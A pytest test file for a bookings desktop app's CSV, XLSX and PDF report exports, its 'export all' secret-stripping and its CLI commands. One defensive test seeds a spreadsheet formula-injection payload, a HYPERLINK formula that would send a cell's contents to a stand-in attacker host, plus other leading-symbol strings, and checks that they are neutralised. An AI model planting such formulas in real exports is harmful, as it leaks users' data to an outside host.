"""The same numbers in the CSV, the XLSX (read back with openpyxl) and the PDF text (pypdf);
hostile text stays text; ``export all`` leaves every secret behind; the CLI commands work.

The PDF writer draws with Qt's GUI module, so those tests use pytest-qt's ``qapp``.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest
from icalendar import Calendar
from openpyxl.worksheet._writer import ALL_TEMP_FILES
from pypdf import PdfReader
from sqlalchemy import select, text, update
from sqlalchemy.orm import Session

from careops_desktop.core.db import Database
from careops_desktop.core.errors import PermissionDenied, ValidationError
from careops_desktop.core.models import Booking, Business, OutboxMessage, User
from careops_desktop.core.permissions import Actor
from careops_desktop.core.services.reports import REPORTS, Column, Report, day_sheet, run_report
from careops_desktop.core.services.reports.listing import BOOKING_COLUMNS, iter_bookings
from careops_desktop.exports.csv_writer import write_report_csv, write_table_csv
from careops_desktop.exports.everything import export_all
from careops_desktop.exports.formatting import csv_text, display_text, is_numeric
from careops_desktop.exports.report_files import write_report
from careops_desktop.exports.xlsx_writer import write_report_xlsx, write_table_xlsx
from tests.core import seed_rows
from tests.core.report_world import END, NOW, START, small_demo_path

SYSTEM = Actor.system("Export test")
ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    database = Database(f"sqlite:///{small_demo_path(tmp_path_factory)}")
    yield database
    database.close()


def _report(demo: Database, name: str) -> Report:
    end = START if name == "day_sheet" else END
    return demo.call(run_report, SYSTEM, name, START, end, now=NOW)


def _pdf_text(path: Path) -> str:
    return " ".join(" ".join(page.extract_text().split()) for page in PdfReader(path).pages)


@pytest.mark.parametrize("name", sorted(REPORTS))
def test_csv_holds_every_figure_and_row(demo: Database, tmp_path: Path, name: str) -> None:
    report = _report(demo, name)
    path = tmp_path / f"{name}.csv"
    write_report_csv(path, report)
    lines = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))
    for figure in report.figures:
        shown = display_text(figure.value, figure.kind, report.currency)
        assert [figure.label, shown] in lines  # key figures are for people
    for section in report.sections:
        header = [c.title for c in section.columns]
        at = lines.index([section.title]) + 1
        assert lines[at] == header
        for offset, row in enumerate(section.rows, start=1):
            expected = [csv_text(v, c.kind) for v, c in zip(row, section.columns, strict=True)]
            assert lines[at + offset] == expected


@pytest.mark.parametrize("name", sorted(REPORTS))
def test_xlsx_reads_back_typed_values(demo: Database, tmp_path: Path, name: str) -> None:
    report = _report(demo, name)
    path = tmp_path / f"{name}.xlsx"
    write_report_xlsx(path, report)
    book = openpyxl.load_workbook(path)
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True) if row}
    for figure in report.figures:
        value = figure.value
        if figure.kind == "money" and isinstance(value, int):
            value = value / 100
        assert summary[figure.label] == (pytest.approx(value) if value is not None else None)
    sheets = book.sheetnames[1:]
    assert len(sheets) == len(report.sections)
    for sheet_name, section in zip(sheets, report.sections, strict=True):
        sheet = book[sheet_name]
        assert sheet.freeze_panes == "A2"
        header = next(sheet.iter_rows(min_row=1, max_row=1))
        assert [c.value for c in header] == [c.title for c in section.columns]
        assert all(c.font.bold for c in header)
        for got, row in zip(
            sheet.iter_rows(min_row=2, values_only=True), section.rows, strict=True
        ):
            for cell, value, column in zip(got, row, section.columns, strict=True):
                if column.kind == "money" and isinstance(value, int):
                    assert cell == pytest.approx(value / 100)
                elif isinstance(value, datetime):
                    assert cell == value.replace(tzinfo=None)
                elif isinstance(value, date):
                    assert cell.date() == value  # type: ignore[union-attr]
                elif isinstance(value, float):
                    assert cell == pytest.approx(value)
                else:
                    assert cell == (value if value != "" else None)


@pytest.mark.parametrize("name", sorted(REPORTS))
def test_pdf_text_shows_the_figures_and_page_numbers(
    demo: Database, tmp_path: Path, name: str, qapp: object
) -> None:
    from careops_desktop.ui.printing.report_pdf import write_report_pdf

    report = _report(demo, name)
    path = tmp_path / f"{name}.pdf"
    pages = write_report_pdf(path, report)
    words = _pdf_text(path)
    assert report.title in words and report.business_name in words
    for figure in report.figures:
        assert display_text(figure.value, figure.kind, report.currency) in words, figure
    assert f"Page 1 of {pages}" in words and f"Page {pages} of {pages}" in words
    for section in report.sections:  # the numbers of each table's first row
        for value, column in zip(
            section.rows[0] if section.rows else (), section.columns, strict=False
        ):
            if is_numeric(column.kind):
                assert display_text(value, column.kind, report.currency) in words


def test_long_tables_repeat_their_header_on_every_page(
    demo: Database, tmp_path: Path, qapp: object
) -> None:
    from careops_desktop.ui.printing.report_pdf import write_report_pdf

    report = demo.call(day_sheet, SYSTEM, date(2025, 4, 1), date(2025, 4, 9), now=NOW)
    path = tmp_path / "week.pdf"
    pages = write_report_pdf(path, report)
    assert pages >= 9  # a day per page at least
    for page in PdfReader(path).pages:
        words = " ".join(page.extract_text().split())
        assert "Start End With What Customer" in words or "No appointments" in words


def test_an_empty_period_writes_all_three_formats(
    demo: Database, tmp_path: Path, qapp: object
) -> None:
    from careops_desktop.ui.printing.report_pdf import write_report_pdf

    report = demo.call(run_report, SYSTEM, "bookings", date(2031, 1, 6), date(2031, 1, 12))
    for fmt in ("csv", "xlsx", "pdf"):
        written = write_report(tmp_path / f"empty.{fmt}", report, pdf_writer=write_report_pdf)
        assert written.stat().st_size > 0
    assert "No data for this period." in _pdf_text(tmp_path / "empty.pdf")
    with pytest.raises(ValidationError):
        write_report(tmp_path / "empty.docx", report)


def test_hostile_text_never_becomes_a_formula(db: Database, tmp_path: Path) -> None:
    def seed(session: Session) -> None:
        business = seed_rows.add_business(session)
        session.execute(update(Business).where(Business.id == business).values(name="@SUM(1+1)"))
        contact = seed_rows.add_contact(session, name=HOSTILE, email="x@example.com")
        provider = seed_rows.add_provider(session, name="+44 Room")
        kind = seed_rows.add_booking_type(session, name="-1 Check-up")
        seed_rows.add_booking(
            session,
            contact_id=contact,
            booking_type_id=kind,
            provider_id=provider,
            start=datetime(2025, 5, 1, 9, tzinfo=UTC),
        )

    db.call(seed)
    report = db.call(day_sheet, SYSTEM, date(2025, 5, 1), date(2025, 5, 1))
    plain, excel = io.StringIO(), io.StringIO()
    write_report_csv(plain, report)
    write_report_csv(excel, report, excel=True)
    plain_cells = {cell for row in csv.reader(io.StringIO(plain.getvalue())) for cell in row}
    assert HOSTILE in plain_cells and "+44 Room" in plain_cells  # exactly as stored
    guarded = excel.getvalue()
    assert guarded.startswith("\ufeff") and "\r\n" in guarded
    rows = list(csv.reader(io.StringIO(guarded.lstrip("\ufeff"))))
    cells = {cell for row in rows for cell in row}
    assert "'" + HOSTILE in cells and "'+44 Room" in cells and "'-1 Check-up" in cells
    assert "'@SUM(1+1)" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    path = tmp_path / "hostile.xlsx"
    write_report_xlsx(path, report)
    sheet = openpyxl.load_workbook(path).worksheets[1]
    customer = sheet.cell(row=2, column=5)
    assert customer.value == HOSTILE and customer.data_type == "s"


def test_a_booking_listing_streams_to_csv_and_xlsx(demo: Database, tmp_path: Path) -> None:
    with demo.session() as session:
        rows = iter_bookings(session, SYSTEM, START, END)
        count = write_table_csv(tmp_path / "bookings.csv", BOOKING_COLUMNS, rows, excel=True)
    with demo.session() as session:
        xlsx_rows = iter_bookings(session, SYSTEM, START, END)
        assert write_table_xlsx(tmp_path / "bookings.xlsx", BOOKING_COLUMNS, xlsx_rows) == count
    expected = demo.call(run_report, SYSTEM, "bookings", START, END).figure("bookings").value
    assert count == expected
    sheet = openpyxl.load_workbook(tmp_path / "bookings.xlsx").active
    assert sheet is not None and sheet.max_row == count + 1


def test_export_all_writes_every_table_and_no_secret(demo: Database, tmp_path: Path) -> None:
    with demo.session() as session:
        token = session.scalars(select(Booking.manage_token).limit(1)).one()
        hashes = list(session.scalars(select(User.password_hash)))
        session.add(  # an email body holding a manage link, as a confirmation would
            OutboxMessage(
                channel="email",
                recipient="a@example.com",
                subject="Your booking",
                body=f"Change or cancel: http://desk.local:8765/manage/{token}",
                message_id="<t1@example.com>",
            )
        )
        session.flush()
        summary = export_all(session, SYSTEM, tmp_path / "all", now=NOW)
        bookings = session.scalar(text("SELECT count(*) FROM bookings"))
        with pytest.raises(PermissionDenied):
            export_all(session, seed_rows.add_staff_actor(session, "staff"), tmp_path / "no")
    files = {p.name: p for p in (tmp_path / "all").iterdir()}
    assert "users.csv" in files and "bookings.csv" in files and "README.txt" in files
    assert summary.files["bookings.csv"] == bookings == summary.files["bookings.ics"]
    assert summary.left_out["users"] == ["password_hash"]
    assert "manage_token" in summary.left_out["bookings"]
    everything = "".join(p.read_text(encoding="utf-8") for p in files.values())
    assert token not in everything
    assert not any(h in everything for h in hashes)
    assert "manage/[removed]" in files["outbox.csv"].read_text(encoding="utf-8")
    header = files["users.csv"].read_text(encoding="utf-8").splitlines()[0]
    assert "password" not in header and "email" in header
    calendar = Calendar.from_ical(files["bookings.ics"].read_bytes())
    assert len(calendar.walk("VEVENT")) == bookings


@pytest.mark.slow
def test_cli_report_and_export_all(
    tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    database = str(small_demo_path(tmp_path_factory))
    run = [sys.executable, "-m", "careops_desktop", "--db", database]
    out = tmp_path / "bookings.xlsx"
    made = subprocess.run(
        [
            *run,
            "report",
            "bookings",
            "--from",
            START.isoformat(),
            "--to",
            END.isoformat(),
            "-o",
            str(out),
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert made.returncode == 0, made.stderr
    assert out.exists() and "Bookings" in made.stdout
    refused = subprocess.run(
        [
            *run,
            "report",
            "bookings",
            "--from",
            END.isoformat(),
            "--to",
            START.isoformat(),
            "-o",
            str(tmp_path / "x.csv"),
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert refused.returncode == 2 and "ends before it starts" in refused.stderr
    exported = subprocess.run(
        [*run, "export", "all", "-o", str(tmp_path / "everything")],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert exported.returncode == 0, exported.stderr
    assert (tmp_path / "everything" / "bookings.ics").exists()
    assert "left out of users: password_hash" in exported.stdout


def test_big_table_exports_report_progress_and_stop_when_told(tmp_path: Path) -> None:
    columns = (Column("n", "Number", "int"), Column("name", "Name"))
    rows = [(n, f"Customer {n}") for n in range(12_000)]
    seen: list[int] = []
    assert write_table_csv(tmp_path / "all.csv", columns, rows, progress=seen.append) == 12_000
    assert seen == [5_000, 10_000]

    class Stop(Exception):
        pass

    def stop(done: int) -> None:
        raise Stop

    with pytest.raises(Stop):
        write_table_xlsx(tmp_path / "stopped.xlsx", columns, rows, progress=stop)
    assert not ALL_TEMP_FILES  # the abandoned sheet's temporary file is gone
    with pytest.raises(ValueError):
        write_table_csv(tmp_path / "bad.csv", columns, [(1, "a", "extra")])
